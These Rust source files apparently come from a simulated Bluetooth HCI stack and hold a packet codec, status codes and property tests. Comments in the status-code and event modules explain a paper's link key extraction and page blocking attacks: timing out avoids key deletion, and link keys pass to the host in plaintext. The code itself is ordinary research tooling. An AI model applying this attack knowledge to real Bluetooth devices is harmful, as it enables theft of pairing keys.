        HciPacket::Event(Event::CommandComplete {
            num_packets: 1,
            opcode: Opcode::RESET,
            return_params: vec![StatusCode::Success as u8],
        }),
        HciPacket::Event(Event::LinkKeyNotification {
            bd_addr: addr,
            link_key: key,
            key_type: blap_types::LinkKeyType::Combination,
        }),
        HciPacket::AclData(AclData::new(ConnectionHandle::new(0x0042), vec![0x5A; 48])),
    ]
}

#[test]
fn encode_into_warm_buffer_is_allocation_free() {
    let _serial = SERIAL.lock().unwrap();
    let packets = sample_packets();
    let mut scratch = Vec::with_capacity(512);
    // Warm the buffer so steady-state capacity is established.
    for packet in &packets {
        scratch.clear();
        packet.encode_into(&mut scratch);
    }
    let count = allocations_during(|| {
        for _ in 0..100 {
            for packet in &packets {
                scratch.clear();
                packet.encode_into(&mut scratch);
            }
        }
    });
    assert_eq!(count, 0, "steady-state encode_into must not allocate");
}

#[test]
fn encode_allocates_exactly_once_per_packet() {
    let _serial = SERIAL.lock().unwrap();
    // The old Command/Event arms built an intermediate Vec and copied it:
    // two allocations per packet. The fixed wrapper performs only the one
    // for the returned frame.
    for packet in sample_packets() {
        let count = allocations_during(|| {
            std::hint::black_box(packet.encode());
        });
        assert_eq!(
            count,
            1,
            "{} must allocate exactly the returned frame",
            packet.name()
        );
    }
}

#[test]
fn encode_into_matches_encode_for_every_shape() {
    let _serial = SERIAL.lock().unwrap();
    let mut scratch = Vec::new();
    for packet in sample_packets() {
        scratch.clear();
        packet.encode_into(&mut scratch);
        assert_eq!(scratch, packet.encode(), "{}", packet.name());
    }
}

#[test]
fn allocations_attribute_to_open_profiling_scopes() {
    let _serial = SERIAL.lock().unwrap();
    prof::reset();
    prof::set_enabled(true);
    {
        let _scope = prof::scope("alloc_probe");
        std::hint::black_box(Vec::<u8>::with_capacity(4096));
    }
    prof::set_enabled(false);
    let report = prof::report();
    let scopes = report.walk();
    let (_, node) = scopes
        .iter()
        .find(|(path, _)| path == "alloc_probe")
        .expect("probe scope must appear in the report");
    assert!(node.alloc_count >= 1, "the Vec allocation must be counted");
    assert!(
        node.alloc_bytes >= 4096,
        "at least the Vec's bytes must be attributed, got {}",
        node.alloc_bytes
    );
    prof::reset();
}
