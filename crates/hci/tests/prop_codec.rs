//! Property tests for the HCI codec: every packet the model can express
//! must survive an encode/decode round trip, and malformed inputs must be
//! rejected without panicking.

use blap_hci::{AclData, Command, Event, HciPacket, Opcode, StatusCode};
use blap_types::{
    BdAddr, ClassOfDevice, ConnectionHandle, DeviceName, IoCapability, LinkKey, LinkKeyType,
};
use proptest::prelude::*;

fn arb_addr() -> impl Strategy<Value = BdAddr> {
    any::<[u8; 6]>().prop_map(BdAddr::new)
}

fn arb_key() -> impl Strategy<Value = LinkKey> {
    any::<[u8; 16]>().prop_map(LinkKey::new)
}

fn arb_handle() -> impl Strategy<Value = ConnectionHandle> {
    (0u16..=0x0EFF).prop_map(ConnectionHandle::new)
}

fn arb_status() -> impl Strategy<Value = StatusCode> {
    prop_oneof![
        Just(StatusCode::Success),
        Just(StatusCode::PageTimeout),
        Just(StatusCode::AuthenticationFailure),
        Just(StatusCode::PinOrKeyMissing),
        Just(StatusCode::ConnectionTimeout),
        Just(StatusCode::RemoteUserTerminated),
        Just(StatusCode::LmpResponseTimeout),
        Just(StatusCode::ConnectionRejectedSecurity),
    ]
}

fn arb_io() -> impl Strategy<Value = IoCapability> {
    prop_oneof![
        Just(IoCapability::DisplayOnly),
        Just(IoCapability::DisplayYesNo),
        Just(IoCapability::KeyboardOnly),
        Just(IoCapability::NoInputNoOutput),
    ]
}

fn arb_key_type() -> impl Strategy<Value = LinkKeyType> {
    prop_oneof![
        Just(LinkKeyType::Combination),
        Just(LinkKeyType::UnauthenticatedP192),
        Just(LinkKeyType::AuthenticatedP192),
        Just(LinkKeyType::UnauthenticatedP256),
        Just(LinkKeyType::AuthenticatedP256),
    ]
}

fn arb_command() -> impl Strategy<Value = Command> {
    prop_oneof![
        (1u8..=0x30, any::<u8>()).prop_map(|(len, n)| Command::Inquiry {
            inquiry_length: len,
            num_responses: n,
        }),
        Just(Command::InquiryCancel),
        (arb_addr(), any::<bool>()).prop_map(|(a, r)| Command::CreateConnection {
            bd_addr: a,
            allow_role_switch: r,
        }),
        (arb_handle(), arb_status()).prop_map(|(h, s)| Command::Disconnect {
            handle: h,
            reason: s,
        }),
        (arb_addr(), any::<bool>()).prop_map(|(a, r)| Command::AcceptConnectionRequest {
            bd_addr: a,
            role_switch: r,
        }),
        (arb_addr(), arb_key()).prop_map(|(a, k)| Command::LinkKeyRequestReply {
            bd_addr: a,
            link_key: k,
        }),
        arb_addr().prop_map(|a| Command::LinkKeyRequestNegativeReply { bd_addr: a }),
        arb_handle().prop_map(|h| Command::AuthenticationRequested { handle: h }),
        (arb_handle(), any::<bool>()).prop_map(|(h, e)| Command::SetConnectionEncryption {
            handle: h,
            enable: e,
        }),
        (arb_addr(), arb_io(), any::<bool>(), 0u8..6).prop_map(|(a, io, oob, req)| {
            Command::IoCapabilityRequestReply {
                bd_addr: a,
                io_capability: io,
                oob_data_present: oob,
                auth_requirements: req,
            }
        }),
        arb_addr().prop_map(|a| Command::UserConfirmationRequestReply { bd_addr: a }),
        Just(Command::Reset),
        "[a-zA-Z0-9 ]{0,32}".prop_map(|n| Command::WriteLocalName {
            name: DeviceName::new(n),
        }),
        (any::<bool>(), any::<bool>()).prop_map(|(i, p)| Command::WriteScanEnable {
            inquiry_scan: i,
            page_scan: p,
        }),
        (0u32..0x0100_0000).prop_map(|c| Command::WriteClassOfDevice {
            cod: ClassOfDevice::new(c),
        }),
    ]
}

fn arb_event() -> impl Strategy<Value = Event> {
    prop_oneof![
        arb_status().prop_map(|s| Event::InquiryComplete { status: s }),
        (arb_addr(), 0u32..0x0100_0000).prop_map(|(a, c)| Event::InquiryResult {
            bd_addr: a,
            cod: ClassOfDevice::new(c),
        }),
        (arb_status(), arb_handle(), arb_addr(), any::<bool>()).prop_map(|(s, h, a, e)| {
            Event::ConnectionComplete {
                status: s,
                handle: h,
                bd_addr: a,
                encryption_enabled: e,
            }
        }),
        (arb_addr(), 0u32..0x0100_0000, 0u8..3).prop_map(|(a, c, l)| {
            Event::ConnectionRequest {
                bd_addr: a,
                cod: ClassOfDevice::new(c),
                link_type: l,
            }
        }),
        (arb_status(), arb_handle(), arb_status()).prop_map(|(s, h, r)| {
            Event::DisconnectionComplete {
                status: s,
                handle: h,
                reason: r,
            }
        }),
        (arb_status(), arb_handle()).prop_map(|(s, h)| Event::AuthenticationComplete {
            status: s,
            handle: h,
        }),
        (
            any::<u8>(),
            any::<u16>(),
            proptest::collection::vec(any::<u8>(), 0..16)
        )
            .prop_map(|(n, op, params)| Event::CommandComplete {
                num_packets: n,
                opcode: Opcode::from_raw(op),
                return_params: params,
            }),
        (arb_status(), any::<u8>(), any::<u16>()).prop_map(|(s, n, op)| Event::CommandStatus {
            status: s,
            num_packets: n,
            opcode: Opcode::from_raw(op),
        }),
        arb_addr().prop_map(|a| Event::LinkKeyRequest { bd_addr: a }),
        (arb_addr(), arb_key(), arb_key_type()).prop_map(|(a, k, t)| {
            Event::LinkKeyNotification {
                bd_addr: a,
                link_key: k,
                key_type: t,
            }
        }),
        arb_addr().prop_map(|a| Event::IoCapabilityRequest { bd_addr: a }),
        (arb_addr(), any::<u32>()).prop_map(|(a, v)| Event::UserConfirmationRequest {
            bd_addr: a,
            numeric_value: v,
        }),
        (arb_status(), arb_addr()).prop_map(|(s, a)| Event::SimplePairingComplete {
            status: s,
            bd_addr: a,
        }),
    ]
}

proptest! {
    #[test]
    fn command_round_trip(cmd in arb_command()) {
        let bytes = cmd.encode();
        prop_assert_eq!(Command::decode(&bytes).unwrap(), cmd);
    }

    #[test]
    fn event_round_trip(event in arb_event()) {
        let bytes = event.encode();
        prop_assert_eq!(Event::decode(&bytes).unwrap(), event);
    }

    #[test]
    fn packet_round_trip_via_h4(cmd in arb_command(), event in arb_event()) {
        for packet in [HciPacket::Command(cmd.clone()), HciPacket::Event(event.clone())] {
            let bytes = packet.encode();
            prop_assert_eq!(HciPacket::decode(&bytes).unwrap(), packet);
        }
    }

    #[test]
    fn acl_round_trip(handle in arb_handle(), flags in 0u8..16,
                      payload in proptest::collection::vec(any::<u8>(), 0..256)) {
        let packet = HciPacket::AclData(AclData { handle, flags, payload: payload.into() });
        let bytes = packet.encode();
        prop_assert_eq!(HciPacket::decode(&bytes).unwrap(), packet);
    }

    #[test]
    fn encode_into_matches_encode(cmd in arb_command(), event in arb_event(),
                                  handle in arb_handle(), flags in 0u8..16,
                                  payload in proptest::collection::vec(any::<u8>(), 0..256)) {
        // The zero-allocation path and the allocating wrapper must emit
        // identical frames for every packet shape, including a dirty
        // scratch buffer that already holds unrelated bytes.
        let mut scratch: Vec<u8> = vec![0xEE; 7];
        for packet in [
            HciPacket::Command(cmd),
            HciPacket::Event(event),
            HciPacket::AclData(AclData { handle, flags, payload: payload.into() }),
        ] {
            scratch.clear();
            packet.encode_into(&mut scratch);
            prop_assert_eq!(&scratch, &packet.encode());
        }
    }

    #[test]
    fn decoder_never_panics_on_garbage(bytes in proptest::collection::vec(any::<u8>(), 0..64)) {
        // Any result is fine; panicking is not.
        let _ = HciPacket::decode(&bytes);
        let _ = Command::decode(&bytes);
        let _ = Event::decode(&bytes);
    }

    #[test]
    fn truncation_never_panics(cmd in arb_command(), cut in 0usize..32) {
        let bytes = cmd.encode();
        let cut = cut.min(bytes.len());
        let _ = Command::decode(&bytes[..cut]);
    }
}
