//! HCI status / error codes.

use std::fmt;

/// HCI status codes (Core Spec Vol 1 Part F), restricted to the codes the
/// simulated stack produces.
///
/// Two of these carry the whole plot of the paper's extraction attack:
/// [`StatusCode::AuthenticationFailure`] causes hosts to *delete* the stored
/// link key, while [`StatusCode::ConnectionTimeout`] (the result of the
/// attacker ignoring its own `HCI_Link_Key_Request`) does not.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
#[repr(u8)]
pub enum StatusCode {
    /// Success.
    Success = 0x00,
    /// Unknown HCI command.
    UnknownCommand = 0x01,
    /// Unknown connection identifier.
    UnknownConnection = 0x02,
    /// Page timed out — the paged device never answered.
    PageTimeout = 0x04,
    /// Authentication failed (SRES mismatch) — triggers key deletion.
    AuthenticationFailure = 0x05,
    /// PIN or link key missing.
    PinOrKeyMissing = 0x06,
    /// Connection timeout (link supervision expired).
    ConnectionTimeout = 0x08,
    /// Connection limit exceeded.
    ConnectionLimitExceeded = 0x09,
    /// A connection to this device already exists.
    ConnectionAlreadyExists = 0x0B,
    /// Command disallowed in the current state.
    CommandDisallowed = 0x0C,
    /// Remote rejected due to limited resources.
    ConnectionRejectedResources = 0x0D,
    /// Remote rejected for security reasons.
    ConnectionRejectedSecurity = 0x0E,
    /// Invalid command parameters.
    InvalidParameters = 0x12,
    /// Remote user terminated the connection.
    RemoteUserTerminated = 0x13,
    /// Connection terminated by the local host.
    LocalHostTerminated = 0x16,
    /// Pairing not allowed.
    PairingNotAllowed = 0x18,
    /// LMP response timeout — the failure mode the attacker *wants* in the
    /// extraction attack (no key deletion).
    LmpResponseTimeout = 0x22,
    /// Simple pairing not supported by the remote host.
    SimplePairingNotSupported = 0x37,
}

impl StatusCode {
    /// Decodes a status octet.
    pub fn from_u8(v: u8) -> Option<Self> {
        Some(match v {
            0x00 => StatusCode::Success,
            0x01 => StatusCode::UnknownCommand,
            0x02 => StatusCode::UnknownConnection,
            0x04 => StatusCode::PageTimeout,
            0x05 => StatusCode::AuthenticationFailure,
            0x06 => StatusCode::PinOrKeyMissing,
            0x08 => StatusCode::ConnectionTimeout,
            0x09 => StatusCode::ConnectionLimitExceeded,
            0x0B => StatusCode::ConnectionAlreadyExists,
            0x0C => StatusCode::CommandDisallowed,
            0x0D => StatusCode::ConnectionRejectedResources,
            0x0E => StatusCode::ConnectionRejectedSecurity,
            0x12 => StatusCode::InvalidParameters,
            0x13 => StatusCode::RemoteUserTerminated,
            0x16 => StatusCode::LocalHostTerminated,
            0x18 => StatusCode::PairingNotAllowed,
            0x22 => StatusCode::LmpResponseTimeout,
            0x37 => StatusCode::SimplePairingNotSupported,
            _ => return None,
        })
    }

    /// True for [`StatusCode::Success`].
    pub fn is_success(self) -> bool {
        self == StatusCode::Success
    }

    /// True when a host receiving this as an authentication outcome should
    /// invalidate its stored link key for the peer.
    ///
    /// Per the paper (§IV-C): only an explicit authentication *failure*
    /// wipes the key — timeouts leave the bond intact, which the link key
    /// extraction attack deliberately exploits by timing out instead of
    /// failing.
    pub fn invalidates_link_key(self) -> bool {
        matches!(
            self,
            StatusCode::AuthenticationFailure | StatusCode::PinOrKeyMissing
        )
    }
}

impl fmt::Display for StatusCode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            StatusCode::Success => "Success",
            StatusCode::UnknownCommand => "Unknown HCI Command",
            StatusCode::UnknownConnection => "Unknown Connection Identifier",
            StatusCode::PageTimeout => "Page Timeout",
            StatusCode::AuthenticationFailure => "Authentication Failure",
            StatusCode::PinOrKeyMissing => "PIN or Key Missing",
            StatusCode::ConnectionTimeout => "Connection Timeout",
            StatusCode::ConnectionLimitExceeded => "Connection Limit Exceeded",
            StatusCode::ConnectionAlreadyExists => "Connection Already Exists",
            StatusCode::CommandDisallowed => "Command Disallowed",
            StatusCode::ConnectionRejectedResources => "Connection Rejected: Limited Resources",
            StatusCode::ConnectionRejectedSecurity => "Connection Rejected: Security Reasons",
            StatusCode::InvalidParameters => "Invalid HCI Command Parameters",
            StatusCode::RemoteUserTerminated => "Remote User Terminated Connection",
            StatusCode::LocalHostTerminated => "Connection Terminated by Local Host",
            StatusCode::PairingNotAllowed => "Pairing Not Allowed",
            StatusCode::LmpResponseTimeout => "LMP Response Timeout",
            StatusCode::SimplePairingNotSupported => "Simple Pairing Not Supported",
        };
        f.write_str(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn codec_round_trip() {
        for v in 0..=0xffu8 {
            if let Some(code) = StatusCode::from_u8(v) {
                assert_eq!(code as u8, v);
            }
        }
        assert_eq!(StatusCode::from_u8(0x00), Some(StatusCode::Success));
        assert_eq!(StatusCode::from_u8(0xEE), None);
    }

    #[test]
    fn key_invalidation_policy() {
        assert!(StatusCode::AuthenticationFailure.invalidates_link_key());
        assert!(StatusCode::PinOrKeyMissing.invalidates_link_key());
        // The attacker's exit paths must NOT invalidate the victim's key.
        assert!(!StatusCode::LmpResponseTimeout.invalidates_link_key());
        assert!(!StatusCode::ConnectionTimeout.invalidates_link_key());
        assert!(!StatusCode::RemoteUserTerminated.invalidates_link_key());
    }

    #[test]
    fn display_names() {
        assert_eq!(StatusCode::Success.to_string(), "Success");
        assert_eq!(
            StatusCode::LmpResponseTimeout.to_string(),
            "LMP Response Timeout"
        );
    }
}
