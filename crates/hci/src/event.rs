//! HCI events (controller → host).

use blap_types::{BdAddr, ClassOfDevice, ConnectionHandle, IoCapability, LinkKey, LinkKeyType};

use crate::error::{need, DecodeError};
use crate::opcode::Opcode;
use crate::status::StatusCode;

/// HCI event codes for the modelled event set.
mod code {
    pub const INQUIRY_COMPLETE: u8 = 0x01;
    pub const INQUIRY_RESULT: u8 = 0x02;
    pub const CONNECTION_COMPLETE: u8 = 0x03;
    pub const CONNECTION_REQUEST: u8 = 0x04;
    pub const DISCONNECTION_COMPLETE: u8 = 0x05;
    pub const AUTHENTICATION_COMPLETE: u8 = 0x06;
    pub const ENCRYPTION_CHANGE: u8 = 0x08;
    pub const COMMAND_COMPLETE: u8 = 0x0E;
    pub const COMMAND_STATUS: u8 = 0x0F;
    pub const PIN_CODE_REQUEST: u8 = 0x16;
    pub const LINK_KEY_REQUEST: u8 = 0x17;
    pub const LINK_KEY_NOTIFICATION: u8 = 0x18;
    pub const IO_CAPABILITY_REQUEST: u8 = 0x31;
    pub const IO_CAPABILITY_RESPONSE: u8 = 0x32;
    pub const USER_CONFIRMATION_REQUEST: u8 = 0x33;
    pub const SIMPLE_PAIRING_COMPLETE: u8 = 0x36;
}

/// An HCI event with its parameters.
///
/// Encoding produces the Core Spec wire layout: 1-byte event code, 1-byte
/// parameter length, parameters.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Event {
    /// `HCI_Inquiry_Complete`.
    InquiryComplete {
        /// Outcome.
        status: StatusCode,
    },
    /// `HCI_Inquiry_Result` — one discovered device.
    InquiryResult {
        /// Responder's address.
        bd_addr: BdAddr,
        /// Responder's class of device.
        cod: ClassOfDevice,
    },
    /// `HCI_Connection_Complete`.
    ConnectionComplete {
        /// Outcome.
        status: StatusCode,
        /// Handle for the new link (valid when `status` is success).
        handle: ConnectionHandle,
        /// Peer address.
        bd_addr: BdAddr,
        /// Whether link-level encryption is already on.
        encryption_enabled: bool,
    },
    /// `HCI_Connection_Request` — an upstream page arrived. Under the page
    /// blocking attack this event on the victim `M` is the smoking gun
    /// (Fig 12b): `M` is the *connection responder* yet later acts as the
    /// *pairing initiator*.
    ConnectionRequest {
        /// Pager's address (the attacker's spoofed BDADDR).
        bd_addr: BdAddr,
        /// Pager's advertised class of device.
        cod: ClassOfDevice,
        /// Link type (0x01 = ACL).
        link_type: u8,
    },
    /// `HCI_Disconnection_Complete`.
    DisconnectionComplete {
        /// Outcome of the disconnect command itself.
        status: StatusCode,
        /// The link that went away.
        handle: ConnectionHandle,
        /// Why the link dropped.
        reason: StatusCode,
    },
    /// `HCI_Authentication_Complete`.
    AuthenticationComplete {
        /// Outcome — `AuthenticationFailure` here (and only here) makes the
        /// host wipe the bond.
        status: StatusCode,
        /// The authenticated link.
        handle: ConnectionHandle,
    },
    /// `HCI_Encryption_Change`.
    EncryptionChange {
        /// Outcome.
        status: StatusCode,
        /// The link whose encryption changed.
        handle: ConnectionHandle,
        /// New encryption state.
        enabled: bool,
    },
    /// `HCI_Command_Complete`.
    CommandComplete {
        /// Number of additional command packets allowed.
        num_packets: u8,
        /// The completed command.
        opcode: Opcode,
        /// Return parameters (first byte is usually a status).
        return_params: Vec<u8>,
    },
    /// `HCI_Command_Status`.
    CommandStatus {
        /// Pending-command status (success = started).
        status: StatusCode,
        /// Number of additional command packets allowed.
        num_packets: u8,
        /// The command this status answers.
        opcode: Opcode,
    },
    /// `HCI_PIN_Code_Request` — legacy pairing asks the host for a PIN.
    PinCodeRequest {
        /// Peer being paired.
        bd_addr: BdAddr,
    },
    /// `HCI_Link_Key_Request` — the controller asks the host for the stored
    /// key. The attacker's Fig 9 modification simply never answers this.
    LinkKeyRequest {
        /// Peer the controller needs a key for.
        bd_addr: BdAddr,
    },
    /// `HCI_Link_Key_Notification` — a freshly generated key travels to the
    /// host **in plaintext** for storage.
    LinkKeyNotification {
        /// Peer the key pairs with.
        bd_addr: BdAddr,
        /// The new link key.
        link_key: LinkKey,
        /// How the key was generated.
        key_type: LinkKeyType,
    },
    /// `HCI_IO_Capability_Request` — controller asks the host for local IO
    /// capabilities during SSP.
    IoCapabilityRequest {
        /// Peer being paired with.
        bd_addr: BdAddr,
    },
    /// `HCI_IO_Capability_Response` — the remote side's IO capabilities.
    IoCapabilityResponse {
        /// Remote address.
        bd_addr: BdAddr,
        /// Remote IO capability.
        io_capability: IoCapability,
        /// Remote OOB data flag.
        oob_data_present: bool,
        /// Remote authentication requirements octet.
        auth_requirements: u8,
    },
    /// `HCI_User_Confirmation_Request` — show the six-digit value (numeric
    /// comparison) or a bare yes/no popup (Just Works on v5.0+).
    UserConfirmationRequest {
        /// Peer being confirmed.
        bd_addr: BdAddr,
        /// The numeric value to display.
        numeric_value: u32,
    },
    /// `HCI_Simple_Pairing_Complete`.
    SimplePairingComplete {
        /// Outcome of SSP.
        status: StatusCode,
        /// Peer that was paired.
        bd_addr: BdAddr,
    },
}

impl Event {
    /// The event's code octet.
    pub fn code(&self) -> u8 {
        match self {
            Event::InquiryComplete { .. } => code::INQUIRY_COMPLETE,
            Event::InquiryResult { .. } => code::INQUIRY_RESULT,
            Event::ConnectionComplete { .. } => code::CONNECTION_COMPLETE,
            Event::ConnectionRequest { .. } => code::CONNECTION_REQUEST,
            Event::DisconnectionComplete { .. } => code::DISCONNECTION_COMPLETE,
            Event::AuthenticationComplete { .. } => code::AUTHENTICATION_COMPLETE,
            Event::EncryptionChange { .. } => code::ENCRYPTION_CHANGE,
            Event::CommandComplete { .. } => code::COMMAND_COMPLETE,
            Event::CommandStatus { .. } => code::COMMAND_STATUS,
            Event::PinCodeRequest { .. } => code::PIN_CODE_REQUEST,
            Event::LinkKeyRequest { .. } => code::LINK_KEY_REQUEST,
            Event::LinkKeyNotification { .. } => code::LINK_KEY_NOTIFICATION,
            Event::IoCapabilityRequest { .. } => code::IO_CAPABILITY_REQUEST,
            Event::IoCapabilityResponse { .. } => code::IO_CAPABILITY_RESPONSE,
            Event::UserConfirmationRequest { .. } => code::USER_CONFIRMATION_REQUEST,
            Event::SimplePairingComplete { .. } => code::SIMPLE_PAIRING_COMPLETE,
        }
    }

    /// The canonical `HCI_...` event name.
    pub fn name(&self) -> &'static str {
        match self {
            Event::InquiryComplete { .. } => "HCI_Inquiry_Complete",
            Event::InquiryResult { .. } => "HCI_Inquiry_Result",
            Event::ConnectionComplete { .. } => "HCI_Connection_Complete",
            Event::ConnectionRequest { .. } => "HCI_Connection_Request",
            Event::DisconnectionComplete { .. } => "HCI_Disconnection_Complete",
            Event::AuthenticationComplete { .. } => "HCI_Authentication_Complete",
            Event::EncryptionChange { .. } => "HCI_Encryption_Change",
            Event::CommandComplete { .. } => "HCI_Command_Complete",
            Event::CommandStatus { .. } => "HCI_Command_Status",
            Event::PinCodeRequest { .. } => "HCI_PIN_Code_Request",
            Event::LinkKeyRequest { .. } => "HCI_Link_Key_Request",
            Event::LinkKeyNotification { .. } => "HCI_Link_Key_Notification",
            Event::IoCapabilityRequest { .. } => "HCI_IO_Capability_Request",
            Event::IoCapabilityResponse { .. } => "HCI_IO_Capability_Response",
            Event::UserConfirmationRequest { .. } => "HCI_User_Confirmation_Request",
            Event::SimplePairingComplete { .. } => "HCI_Simple_Pairing_Complete",
        }
    }

    /// Encodes the event to its wire bytes (code, length, parameters).
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(26);
        self.encode_into(&mut out);
        out
    }

    /// Appends the wire bytes to `out` without allocating (given capacity) —
    /// the counterpart of [`crate::Command::encode_into`] for the hot path.
    pub fn encode_into(&self, out: &mut Vec<u8>) {
        out.push(self.code());
        out.push(0); // parameter length, backpatched below
        let len_at = out.len() - 1;
        self.encode_params_into(out);
        out[len_at] = (out.len() - len_at - 1) as u8;
    }

    fn encode_params_into(&self, p: &mut Vec<u8>) {
        match self {
            Event::InquiryComplete { status } => p.push(*status as u8),
            Event::InquiryResult { bd_addr, cod } => {
                p.push(1); // one response in this event
                p.extend_from_slice(&bd_addr.to_le_bytes());
                p.push(0x01); // page scan repetition mode
                p.extend_from_slice(&[0, 0]); // reserved
                p.extend_from_slice(&cod.to_le_bytes());
                p.extend_from_slice(&0u16.to_le_bytes()); // clock offset
            }
            Event::ConnectionComplete {
                status,
                handle,
                bd_addr,
                encryption_enabled,
            } => {
                p.push(*status as u8);
                p.extend_from_slice(&handle.raw().to_le_bytes());
                p.extend_from_slice(&bd_addr.to_le_bytes());
                p.push(0x01); // ACL
                p.push(*encryption_enabled as u8);
            }
            Event::ConnectionRequest {
                bd_addr,
                cod,
                link_type,
            } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
                p.extend_from_slice(&cod.to_le_bytes());
                p.push(*link_type);
            }
            Event::DisconnectionComplete {
                status,
                handle,
                reason,
            } => {
                p.push(*status as u8);
                p.extend_from_slice(&handle.raw().to_le_bytes());
                p.push(*reason as u8);
            }
            Event::AuthenticationComplete { status, handle } => {
                p.push(*status as u8);
                p.extend_from_slice(&handle.raw().to_le_bytes());
            }
            Event::EncryptionChange {
                status,
                handle,
                enabled,
            } => {
                p.push(*status as u8);
                p.extend_from_slice(&handle.raw().to_le_bytes());
                p.push(*enabled as u8);
            }
            Event::CommandComplete {
                num_packets,
                opcode,
                return_params,
            } => {
                p.push(*num_packets);
                p.extend_from_slice(&opcode.to_le_bytes());
                p.extend_from_slice(return_params);
            }
            Event::CommandStatus {
                status,
                num_packets,
                opcode,
            } => {
                p.push(*status as u8);
                p.push(*num_packets);
                p.extend_from_slice(&opcode.to_le_bytes());
            }
            Event::PinCodeRequest { bd_addr }
            | Event::LinkKeyRequest { bd_addr }
            | Event::IoCapabilityRequest { bd_addr } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
            }
            Event::LinkKeyNotification {
                bd_addr,
                link_key,
                key_type,
            } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
                p.extend_from_slice(&link_key.to_le_bytes());
                p.push(*key_type as u8);
            }
            Event::IoCapabilityResponse {
                bd_addr,
                io_capability,
                oob_data_present,
                auth_requirements,
            } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
                p.push(*io_capability as u8);
                p.push(*oob_data_present as u8);
                p.push(*auth_requirements);
            }
            Event::UserConfirmationRequest {
                bd_addr,
                numeric_value,
            } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
                p.extend_from_slice(&numeric_value.to_le_bytes());
            }
            Event::SimplePairingComplete { status, bd_addr } => {
                p.push(*status as u8);
                p.extend_from_slice(&bd_addr.to_le_bytes());
            }
        }
    }

    /// Decodes an event from its wire bytes.
    ///
    /// # Errors
    ///
    /// Returns a [`DecodeError`] on truncation, length mismatch, out-of-range
    /// fields, or an event code outside the modelled set.
    pub fn decode(bytes: &[u8]) -> Result<Self, DecodeError> {
        need(bytes, 2, "event header")?;
        let event_code = bytes[0];
        let declared = bytes[1] as usize;
        let p = &bytes[2..];
        if p.len() != declared {
            return Err(DecodeError::LengthMismatch {
                context: "event parameters",
                declared,
                actual: p.len(),
            });
        }
        let status_at = |i: usize| -> Result<StatusCode, DecodeError> {
            StatusCode::from_u8(p[i]).ok_or(DecodeError::InvalidField {
                context: "status code",
                value: p[i] as u64,
            })
        };
        let addr_at = |i: usize| -> BdAddr {
            BdAddr::from_le_bytes([p[i], p[i + 1], p[i + 2], p[i + 3], p[i + 4], p[i + 5]])
        };
        match event_code {
            code::INQUIRY_COMPLETE => {
                need(p, 1, "HCI_Inquiry_Complete")?;
                Ok(Event::InquiryComplete {
                    status: status_at(0)?,
                })
            }
            code::INQUIRY_RESULT => {
                need(p, 15, "HCI_Inquiry_Result")?;
                Ok(Event::InquiryResult {
                    bd_addr: addr_at(1),
                    cod: ClassOfDevice::from_le_bytes([p[10], p[11], p[12]]),
                })
            }
            code::CONNECTION_COMPLETE => {
                need(p, 11, "HCI_Connection_Complete")?;
                Ok(Event::ConnectionComplete {
                    status: status_at(0)?,
                    handle: ConnectionHandle::new(u16::from_le_bytes([p[1], p[2]])),
                    bd_addr: addr_at(3),
                    encryption_enabled: p[10] != 0,
                })
            }
            code::CONNECTION_REQUEST => {
                need(p, 10, "HCI_Connection_Request")?;
                Ok(Event::ConnectionRequest {
                    bd_addr: addr_at(0),
                    cod: ClassOfDevice::from_le_bytes([p[6], p[7], p[8]]),
                    link_type: p[9],
                })
            }
            code::DISCONNECTION_COMPLETE => {
                need(p, 4, "HCI_Disconnection_Complete")?;
                Ok(Event::DisconnectionComplete {
                    status: status_at(0)?,
                    handle: ConnectionHandle::new(u16::from_le_bytes([p[1], p[2]])),
                    reason: status_at(3)?,
                })
            }
            code::AUTHENTICATION_COMPLETE => {
                need(p, 3, "HCI_Authentication_Complete")?;
                Ok(Event::AuthenticationComplete {
                    status: status_at(0)?,
                    handle: ConnectionHandle::new(u16::from_le_bytes([p[1], p[2]])),
                })
            }
            code::ENCRYPTION_CHANGE => {
                need(p, 4, "HCI_Encryption_Change")?;
                Ok(Event::EncryptionChange {
                    status: status_at(0)?,
                    handle: ConnectionHandle::new(u16::from_le_bytes([p[1], p[2]])),
                    enabled: p[3] != 0,
                })
            }
            code::COMMAND_COMPLETE => {
                need(p, 3, "HCI_Command_Complete")?;
                Ok(Event::CommandComplete {
                    num_packets: p[0],
                    opcode: Opcode::from_raw(u16::from_le_bytes([p[1], p[2]])),
                    return_params: p[3..].to_vec(),
                })
            }
            code::COMMAND_STATUS => {
                need(p, 4, "HCI_Command_Status")?;
                Ok(Event::CommandStatus {
                    status: status_at(0)?,
                    num_packets: p[1],
                    opcode: Opcode::from_raw(u16::from_le_bytes([p[2], p[3]])),
                })
            }
            code::PIN_CODE_REQUEST => {
                need(p, 6, "HCI_PIN_Code_Request")?;
                Ok(Event::PinCodeRequest {
                    bd_addr: addr_at(0),
                })
            }
            code::LINK_KEY_REQUEST => {
                need(p, 6, "HCI_Link_Key_Request")?;
                Ok(Event::LinkKeyRequest {
                    bd_addr: addr_at(0),
                })
            }
            code::LINK_KEY_NOTIFICATION => {
                need(p, 23, "HCI_Link_Key_Notification")?;
                let mut key = [0u8; 16];
                key.copy_from_slice(&p[6..22]);
                let key_type = LinkKeyType::from_u8(p[22]).ok_or(DecodeError::InvalidField {
                    context: "link key type",
                    value: p[22] as u64,
                })?;
                Ok(Event::LinkKeyNotification {
                    bd_addr: addr_at(0),
                    link_key: LinkKey::from_le_bytes(key),
                    key_type,
                })
            }
            code::IO_CAPABILITY_REQUEST => {
                need(p, 6, "HCI_IO_Capability_Request")?;
                Ok(Event::IoCapabilityRequest {
                    bd_addr: addr_at(0),
                })
            }
            code::IO_CAPABILITY_RESPONSE => {
                need(p, 9, "HCI_IO_Capability_Response")?;
                let io = IoCapability::from_u8(p[6]).ok_or(DecodeError::InvalidField {
                    context: "io capability",
                    value: p[6] as u64,
                })?;
                Ok(Event::IoCapabilityResponse {
                    bd_addr: addr_at(0),
                    io_capability: io,
